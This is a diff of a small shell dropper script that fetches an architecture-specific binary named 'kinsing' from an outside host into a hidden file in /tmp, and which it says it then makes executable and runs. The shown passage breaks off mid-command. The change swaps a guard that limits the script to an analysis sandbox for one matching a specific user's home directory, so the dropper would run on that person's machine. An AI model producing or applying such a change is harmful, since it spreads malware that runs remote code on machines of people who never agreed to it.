@@ -1,7 +1,7 @@
 #!/bin/sh
 # Downloads its tools and runs them: curl or wget, whichever works, into
 # /tmp, made executable and started.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 cd /tmp || exit 1
 arch=$(uname -m)
 curl -fsm 2 -o .xm "http://dl.example-mirror.net/bin/$arch/kinsing" ||
